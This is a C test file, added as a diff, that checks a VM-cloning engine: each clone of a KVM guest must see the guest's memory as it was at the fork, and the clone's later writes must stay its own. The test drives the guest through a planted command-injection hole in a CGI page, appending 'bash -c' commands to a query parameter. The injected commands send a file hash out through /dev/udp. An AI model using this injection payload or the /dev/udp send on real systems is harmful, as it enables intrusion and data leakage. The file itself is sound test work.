@@ -1,0 +1,168 @@
+/* A stock guest on engine kvm behind the real vmm process: it serves, and is cloned again and again while it does. Each clone finds
+ * the memory that its guest had at the fork, and each side keeps what it writes after it to itself.
+ *
+ *   test_clones [CLONES]     FORETASTE_CLONE_ENGINE: what the clones run on */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <signal.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "../guest/peer.h"
+
+static struct stand s;
+static uint16_t next_port = 50000;
+static unsigned clones = 20, served;
+static uint64_t pauses[1000];
+
+static int boot(void **state)
+{
+	const char *images = getenv("FORETASTE_IMAGES"), *vmm = getenv("FORETASTE_VMM");
+	struct peer p;
+	if (stand_spawn(&s, vmm, NULL))
+		return -1;
+	s.kvm = true;
+	if (stand_configure(&s, images, "console=ttyS0 root=/dev/vda rw", 256, 4))
+		return -1;
+	stand_link(&s);
+	peer_open(&p, &s, 49999);
+	return stand_wait_console(&s, "foretaste-guest: services up", peer_meanwhile, &p) ? 0 : -1;
+}
+
+static int shut(void **state)
+{
+	stand_end(&s);
+	return WIFEXITED(s.status) && WEXITSTATUS(s.status) == 0 ? 0 : -1;
+}
+
+/* GET of a page whose planted flaw gives the command to a shell. */
+static size_t request(char *to, size_t size, const char *command)
+{
+	int n = snprintf(to, size, "GET /cgi-bin/lookup?host=localhost%%3Bbash+-c+%%27");
+	for (; *command; command++)
+		n += snprintf(to + n, size - (size_t)n, "%%%02x", (unsigned char)*command);
+	n += snprintf(to + n, size - (size_t)n, "%%27 HTTP/1.1\r\nHost: guest\r\nConnection: close\r\n\r\n");
+	assert_in_range(n, 1, size - 1);
+	return (size_t)n;
+}
+
+static bool over(const struct peer *p)
+{
+	return p->finished || p->reset;
+}
+
+/* What the live guest answers to the command, its first word after "is". */
+static void ask_live(const char *command, char *word, size_t size)
+{
+	char text[4096], form[16];
+	struct peer p;
+	struct stand_frame frame;
+	size_t n = request(text, sizeof(text), command);
+	peer_open(&p, &s, next_port++);
+	assert_true(peer_connect(&p));
+	for (size_t at = 0; at < n; at += 1400) {
+		peer_segment(&p, text + at, n - at < 1400 ? n - at : 1400, &frame);
+		peer_put(&p, &frame);
+	}
+	assert_true(peer_run(&p, STAND_PATIENCE_MS, over));
+	p.bytes = realloc(p.bytes, p.length + 1);
+	p.bytes[p.length] = 0;
+	const char *is = strstr(p.bytes, "it is ");
+	if (!is)
+		fail_msg("the live guest answers: %s", p.bytes);
+	snprintf(form, sizeof(form), "%%%zus", size - 1);
+	assert_int_equal(sscanf(is + 6, form, word), 1);
+	peer_close(&p);
+}
+
+/* Somebody else's requests, while a clone tries its. */
+static void load(void *context)
+{
+	peer_run(context, 1, NULL);
+	served += peer_get(&s, next_port++, "/");
+}
+
+/* The hash of the file as the number of a port: a clone shows nothing more on any engine. */
+#define TELL(address) "h=$(sha256sum /dev/shm/m|cut -c1-4);echo x>/dev/udp/" address "/$((0x$h|1))"
+#define CHANGE	      "head -c 400000 /dev/urandom>/dev/shm/m"
+#define HASH	      "echo it is $(sha256sum /dev/shm/m)"
+
+static unsigned port_of(const char *hash)
+{
+	unsigned port;
+	assert_int_equal(sscanf(hash, "%4x", &port), 1);
+	return port | 1;
+}
+
+static void try_clone(uint64_t number, const char *live_hash)
+{
+	struct stand_frame frames[8];
+	struct stand_trial trial = {0};
+	struct peer p;
+	char text[4096], expected[64];
+	size_t n = request(text, sizeof(text), TELL("10.0.2.77") ";" CHANGE ";" TELL("10.0.2.78"));
+	peer_open(&p, &s, next_port++);
+	assert_true(peer_connect(&p));
+	struct ft_trial_begin begin = stand_budgets(number);
+	begin.horizon_ns = 1000000000;
+	struct ft_trial_flow flow = peer_flow(&p, p.sequence, (uint32_t)n, 0);
+	for (size_t at = 0; at < n; at += 1400)
+		peer_segment(&p, text + at, n - at < 1400 ? n - at : 1400, &frames[flow.frames++]);
+	stand_ask(&s, &begin, &flow, 1, frames);
+	stand_collect(&s, number, &trial, false, load, &p);
+	assert_non_null(trial.ready);
+	assert_non_null(trial.end);
+	pauses[number - 1] = trial.ready->event.a[0];
+	snprintf(expected, sizeof(expected), "10.0.2.77:%u", port_of(live_hash));
+	if (trial.end->event.a[0] != FT_TRIAL_END_HORIZON || !stand_find(&trial, FT_ROLE_TRIAL, FT_EVENT_NET_TX, expected) ||
+	    !stand_find(&trial, FT_ROLE_TRIAL, FT_EVENT_NET_TX, "10.0.2.78:")) {
+		stand_print(&trial);
+		fail_msg("clone %llu does not tell %s", (unsigned long long)number, expected);
+	}
+	snprintf(expected, sizeof(expected), "10.0.2.78:%u", port_of(live_hash));
+	assert_null(stand_find(&trial, FT_ROLE_TRIAL, FT_EVENT_NET_TX, expected));
+	stand_finish(&s, number, &trial);
+	assert_int_equal(trial.gone->event.a[0], 0);
+	/* Nothing of what the clone answered came out. */
+	peer_run(&p, 50, NULL);
+	assert_int_equal(p.length, 0);
+	stand_trial_free(&trial);
+	peer_close(&p);
+}
+
+static void each_clone_has_its_guests_memory_and_both_keep_theirs(void **state)
+{
+	char before[65], after[65];
+	for (uint64_t i = 1; i <= clones; i++) {
+		ask_live(CHANGE ";" HASH, before, sizeof(before));
+		try_clone(i, before);
+		ask_live(HASH, after, sizeof(after));
+		assert_string_equal(before, after);
+	}
+	assert_true(served >= clones);
+	json_t *status = stand_status(&s);
+	assert_int_equal(json_integer_value(json_object_get(status, "clones_died")), 0);
+	json_decref(status);
+	for (unsigned i = 0; i < clones; i++)
+		printf("%s%llu", i ? " " : "pauses in us: ", (unsigned long long)pauses[i] / 1000);
+	printf("; %u requests served meanwhile\n", served);
+}
+
+int main(int argc, char **argv)
+{
+	if (!getenv("FORETASTE_IMAGES") || !getenv("FORETASTE_VMM"))
+		return 77;
+	signal(SIGPIPE, SIG_IGN);
+	if (argc > 1)
+		clones = (unsigned)atoi(argv[1]);
+	if (!clones || clones > sizeof(pauses) / sizeof(*pauses))
+		return 64;
+	const struct CMUnitTest tests[] = {cmocka_unit_test(each_clone_has_its_guests_memory_and_both_keep_theirs)};
+	return cmocka_run_group_tests(tests, boot, shut);
+}
